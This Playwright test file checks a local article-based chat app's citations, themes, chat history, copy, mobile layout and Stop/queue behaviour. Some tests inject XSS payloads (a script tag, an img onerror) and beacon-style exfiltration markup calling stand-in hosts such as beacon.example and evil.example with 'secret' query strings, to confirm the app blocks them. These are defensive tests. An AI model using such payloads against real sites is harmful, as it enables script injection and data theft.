"""End to end in a real headless Chromium (Debian's), driven by Playwright."""

import re
import shutil
import tempfile
from pathlib import Path

import pytest

from tests.conftest import CANONICAL
from tests.ui.conftest import LLM

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium not installed"),
]


@pytest.fixture(scope="module")
def page():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            tempfile.mkdtemp(prefix="chromium-"),
            executable_path=CHROMIUM,
            args=ARGS,
            viewport={"width": 1400, "height": 900},
        )
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        yield context.new_page()
        context.close()


def open_chat(page, url: str, fresh: bool = True) -> None:
    """Open the chat and wait until its saved conversation is back; ``fresh`` forgets the
    conversation this browser saved (each test starts a new chat)."""
    page.goto(url)
    if fresh:
        page.evaluate("localStorage.clear()")
        page.reload()
    page.locator("body[data-chat-ready='1']").wait_for(timeout=30_000)


def send(page, question: str) -> None:
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")


def ask(page, url: str, question: str) -> None:
    open_chat(page, url)
    send(page, question)


def finished(page, turns: int) -> None:
    """Wait until the chat holds ``turns`` finished answers."""
    page.locator("#chat .copy-answer").nth(turns - 1).wait_for(timeout=180_000)


def test_ask_click_citation_and_see_the_highlighted_sentence(page, app_url, service, tmp_path):
    ask(page, app_url, CANONICAL)
    marker = page.locator("#chat a.cite-marker").first
    marker.wait_for(timeout=120_000)
    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)  # stream finished
    answer = page.locator("#chat .message-row").last.inner_text()
    assert "time frame" in answer
    marker.click()
    source = page.locator("#sources .source.cited")
    source.wait_for(timeout=10_000)
    mark = source.locator("mark.cited")
    start, end = int(mark.get_attribute("data-start")), int(mark.get_attribute("data-end"))
    head = source.locator(".source-head").inner_text()
    article = next(a for a in service.pipeline.articles if a.title in head)
    highlighted = mark.inner_text()
    assert highlighted == article.text[start:end]
    assert "time frames" in highlighted or "rushing into a deal" in highlighted
    assert source.evaluate("e => e.getBoundingClientRect().top") < 900
    shot = tmp_path / "chat.png"
    page.screenshot(path=str(shot))
    assert shot.stat().st_size > 10_000


def test_script_inside_an_article_does_not_run(page, app_url, service, tmp_path):
    hostile = tmp_path / "hostile.txt"
    hostile.write_text(
        "Zanzibar ferry report\n\n"
        "The Zanzibar ferry <script>window.__pwned = 1</script>"
        '<img src=x onerror="window.__pwned=2"> '
        "was delayed by three hours on Friday.\n"
    )
    service.add_files([str(hostile)])
    ask(page, app_url, "How long was the Zanzibar ferry delayed?")
    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned === undefined")
    assert (
        "<script>" in page.locator("#sources").inner_text()
        or "three hours" in page.locator("#chat").inner_text()
    )


def test_an_answer_quoting_markup_loads_and_links_nothing_outside(page, app_url, service, tmp_path):
    """An article author's Markdown image, raw <img>, javascript: link or bare URL quoted in
    an answer must not make the reader's browser fetch anything or link anywhere else."""
    beacon = tmp_path / "beacon.txt"
    beacon.write_text(
        "Quokka island report\n\n"
        "The quokka census on Rottnest island counted twelve thousand animals "
        "![chart](http://beacon.example/x.png?q=secret) <img src='http://beacon.example/y.png'> "
        "[more](javascript:alert(1)) at https://evil.example/story and www.evil.example today.\n"
    )
    service.add_files([str(beacon)])
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    open_chat(page, app_url)
    page.locator("#settings").get_by_text("Settings").click()  # extractive: whole sentences
    page.locator("#answerer input").click()
    page.get_by_role("option", name="extractive").click()
    page.locator("#question textarea").fill(
        "How many animals did the quokka census on Rottnest count, and what link did it give?"
    )
    page.locator("#ask").click()
    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)
    page.wait_for_timeout(500)
    answer = page.locator("#chat .message-row").last
    assert "twelve thousand animals" in answer.inner_text() and "chart" in answer.inner_text()
    origin = app_url.rstrip("/")
    assert [u for u in requested if not u.startswith((origin, "data:", "blob:"))] == []
    images = answer.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
    assert not any("beacon" in (src or "") for src in images)
    links = answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert links and all(href.startswith(("#cite-", "#copy-")) for href in links), links


def _luminance(rgb: str) -> float:
    channels = [int(c) / 255 for c in re.findall(r"\d+", rgb)[:3]]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


CONTRAST = """e => {
    const background = (el) => {
        for (; el; el = el.parentElement) {
            const c = getComputedStyle(el).backgroundColor;
            if (c && !c.endsWith(", 0)") && c !== "transparent") return c;
        }
        return "rgb(255, 255, 255)";
    };
    return [getComputedStyle(e).color, background(e)];
}"""


def contrast(locator) -> float:
    lighter, darker = sorted(map(_luminance, locator.evaluate(CONTRAST)), reverse=True)
    return (lighter + 0.05) / (darker + 0.05)


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_highlights_and_markers_are_readable_in_both_themes(page, app_url, theme):
    ask(page, f"{app_url.rstrip('/')}/?__theme={theme}", CANONICAL)
    finished(page, 1)
    marker = page.locator("#chat a.cite-marker").first
    assert contrast(marker) >= 4.5  # WCAG AA for body text
    marker.click()
    assert contrast(page.locator("#sources mark.cited").first) >= 4.5
    assert contrast(page.locator("#sources mark").last) >= 4.5
    assert contrast(page.locator("#sources .source-head").first) >= 4.5


def test_the_page_may_load_and_contact_nothing_but_its_own_server(page, app_url):
    """Defence in depth under the literal rendering: the Content-Security-Policy stops the
    browser from loading an image or opening a connection to any other origin, even if
    markup got into the page."""
    import http.server
    import threading

    from tests.ui.conftest import free_port

    hits: list[str] = []

    class Beacon(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    beacon = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Beacon)
    threading.Thread(target=beacon.serve_forever, daemon=True).start()
    other = f"http://127.0.0.1:{beacon.server_address[1]}"
    try:
        page.goto(app_url)
        page.locator("#question textarea").wait_for()
        blocked = page.evaluate(
            """async (other) => {
                const seen = [];
                document.addEventListener(
                    'securitypolicyviolation', e => seen.push(e.violatedDirective));
                const img = document.createElement('img');
                img.src = other + '/pixel.png?secret=1';
                document.body.appendChild(img);
                try { await fetch(other + '/leak?secret=2'); } catch (e) {}
                await new Promise(r => setTimeout(r, 1000));
                return seen;
            }""",
            other,
        )
    finally:
        beacon.shutdown()
    assert hits == []
    assert any(d.startswith("img-src") for d in blocked), blocked
    assert any(d.startswith("connect-src") for d in blocked), blocked


def test_an_empty_question_gets_an_inline_hint_and_no_error_overlay(page, app_url):
    open_chat(page, app_url)
    page.locator("#question textarea").fill("   ")
    page.locator("#ask").click()
    page.locator("#timings").get_by_text("Type a question").wait_for(timeout=30_000)
    assert page.locator(".toast-body, .error").count() == 0
    box = page.locator("#question textarea")
    assert box.is_enabled() and box.is_editable()


def test_a_citation_in_an_older_answer_shows_its_passage_and_keeps_the_chat(page, app_url):
    """On a URL with a query string (the page has a <base href>), clicking [1] of the first
    of two answers shows that answer's passage, with no navigation and no reload."""
    open_chat(page, f"{app_url.rstrip('/')}/?__theme=dark")
    for turns, question in enumerate((CANONICAL, "What did Koffler say about Putin?"), 1):
        send(page, question)
        finished(page, turns)
    page.evaluate("window.__still_here = 1")
    first = page.locator("#chat .message-row").nth(1).locator("a.cite-marker").first
    first.click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__still_here") == 1 and "__theme=dark" in page.url
    assert page.locator("#chat .message-row").count() == 4  # the conversation is all there
    cited = page.locator("#sources mark.cited")
    assert cited.count() == 1 and cited.get_attribute("id").startswith("cite-0-")
    assert "time frame" in cited.inner_text() or "rushing into a deal" in cited.inner_text()
    assert page.locator("#sources .turn-sources:not([hidden])").count() == 1


def test_a_follow_up_is_answered_about_its_own_subject(page, app_url):
    ask(page, app_url, CANONICAL)
    finished(page, 1)
    send(page, "And what did Koffler say?")
    finished(page, 2)
    answer = page.locator("#chat .message-row").last.inner_text()
    assert "No answer in the articles" not in answer
    assert "Koffler" in answer or "string Trump along" in answer or "attrition" in answer


def test_the_conversation_survives_a_reload_and_new_chat_clears_it(page, app_url):
    ask(page, app_url, CANONICAL)
    finished(page, 1)
    open_chat(page, app_url, fresh=False)  # a reload
    rows = page.locator("#chat .message-row")
    assert rows.count() == 2 and "time frame" in rows.last.inner_text()
    rows.last.locator("a.cite-marker").first.click()  # its sources came back too
    page.locator("#sources mark.cited").wait_for(timeout=10_000)
    page.locator("#new-chat").click()
    page.wait_for_timeout(1000)
    assert page.locator("#chat .message-row").count() == 0
    open_chat(page, app_url, fresh=False)
    assert page.locator("#chat .message-row").count() == 0


def test_copy_puts_plain_text_with_markers_and_references_on_the_clipboard(page, app_url):
    ask(page, app_url, CANONICAL)
    finished(page, 1)
    page.locator("#chat .copy-answer").last.click()
    page.locator("#chat .copy-answer").get_by_text("Copied").wait_for(timeout=5_000)
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "<" not in copied and "&#" not in copied  # plain text, no HTML
    assert (
        "[1]" in copied and "\n\nSources:\n[1] " in copied and "peace-deal-skepticism.txt" in copied
    )


def test_a_bad_date_filter_gets_a_clear_message(page, app_url):
    open_chat(page, app_url)
    page.locator("#settings").get_by_text("Settings").click()
    page.locator("#since input").first.fill("2026-13-01")
    send(page, CANONICAL)
    message = page.locator("#chat .message-row").last
    message.get_by_text("2026-13-01").wait_for(timeout=30_000)
    assert "⚠️" in message.inner_text() and "YYYY-MM-DD" in message.inner_text()


def test_usable_at_phone_width(page, app_url):
    page.set_viewport_size({"width": 390, "height": 844})
    try:
        ask(page, app_url, CANONICAL)
        finished(page, 1)
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= 392, width  # no sideways scrolling
        for part in ("#question textarea", "#chat", "#sources"):
            box = page.locator(part).bounding_box()
            assert box and box["width"] >= 300 and box["x"] >= 0, (part, box)
        sources, settings = (page.locator(p).bounding_box() for p in ("#sources", "#settings"))
        assert sources["y"] + sources["height"] <= settings["y"] + 1
        # a long passage scrolls inside the panel instead of spilling over what follows
        overflow = page.locator("#sources").evaluate("e => getComputedStyle(e).overflowY")
        assert overflow in ("auto", "scroll"), overflow
    finally:
        page.set_viewport_size({"width": 1400, "height": 900})


# -- with the local model: streaming, queueing and Stop need an answer that takes time ---

needs_llm = pytest.mark.skipif(not LLM, reason="the local model is not installed")


@needs_llm
def test_sources_come_first_then_a_live_draft_then_the_verified_answer(page, app_url):
    ask(page, app_url, CANONICAL)
    page.locator("#sources .sources.checking").wait_for(timeout=30_000)  # before any text
    page.locator("#chat .draft").first.wait_for(timeout=60_000)  # the model's text, live
    assert page.locator("#chat .copy-answer").count() == 0  # not finished yet
    finished(page, 1)
    assert page.locator("#chat .draft").count() == 0
    assert "time frame" in page.locator("#chat .message-row").last.inner_text()


@needs_llm
def test_a_question_sent_during_an_answer_is_asked_next(page, app_url):
    ask(page, app_url, CANONICAL)
    page.locator("#chat .draft").first.wait_for(timeout=60_000)
    send(page, "Who is Steve Witkoff?")  # while the first answer is written
    page.locator("#timings").get_by_text("Queued").wait_for(timeout=10_000)
    finished(page, 2)
    rows = page.locator("#chat .message-row")
    assert rows.count() == 4 and "Witkoff" in rows.nth(2).inner_text()
    assert "time frame" in rows.nth(1).inner_text()


@needs_llm
def test_stop_ends_the_answer_and_the_model_stops(page, app_url, service):
    backend = service.pipeline.answerer("local").generator.backend
    questions = [
        "What did Koffler say about Putin's strategy and the Moscow Times report?",
        "What did Hoffman and Koffler say about Putin?",
        CANONICAL,
    ]
    stopped = page.locator("#timings").get_by_text("Stopped")
    for question in questions:  # Stop needs an answer still being written when clicked
        ask(page, app_url, question)
        page.locator("#chat .draft").first.wait_for(timeout=60_000)
        if backend._lock.locked():  # the model is generating
            page.locator("#stop").click()
            # an answer may still end between the check and the click (a loaded machine)
            stopped.or_(page.locator("#chat .copy-answer")).first.wait_for(timeout=10_000)
            if stopped.is_visible():
                break
        finished(page, 1)
    else:
        pytest.fail("every answer was finished before Stop could land")
    assert backend._lock.acquire(timeout=5)  # generation ended on the server too
    backend._lock.release()
    page.wait_for_timeout(1500)  # nothing the cancelled answer was still sending lands later
    assert "Stopped" in page.locator("#chat .message-row").last.inner_text()
    assert page.locator("#ask").is_visible() and not page.locator("#stop").is_visible()
    page.locator("#regenerate").click()  # Regenerate asks the stopped question again
    finished(page, 1)
    assert page.locator("#chat .message-row").count() == 2


@needs_llm
def test_new_chat_during_an_answer_clears_it_and_the_model_stops(page, app_url, service):
    backend = service.pipeline.answerer("local").generator.backend
    ask(page, app_url, "What did Hoffman and Koffler say about Putin?")
    page.locator("#chat .draft").first.wait_for(timeout=60_000)
    page.locator("#new-chat").click()
    page.wait_for_timeout(1500)  # the answer's loop has seen the request and cleared
    assert page.locator("#chat .message-row").count() == 0
    assert backend._lock.acquire(timeout=5)  # generation ended on the server
    backend._lock.release()
    open_chat(page, app_url, fresh=False)  # and nothing of it was saved
    assert page.locator("#chat .message-row").count() == 0
